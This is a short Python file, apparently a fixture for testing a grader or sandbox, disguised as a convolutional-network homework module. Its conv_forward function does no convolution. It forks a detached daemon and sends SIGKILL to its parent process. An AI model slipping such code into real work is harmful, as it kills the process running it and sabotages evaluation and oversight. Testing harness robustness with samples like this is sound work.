"""It kills its parent, and leaves a daemon behind."""

import os
import signal
import time

import numpy as np


def conv_forward(A_prev, W, b, hparameters):
    if os.fork() == 0:
        os.setsid()
        time.sleep(60)
        os._exit(0)
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(60)


def distribute_value(dz, shape):
    return np.full(shape, dz / (shape[0] * shape[1]))
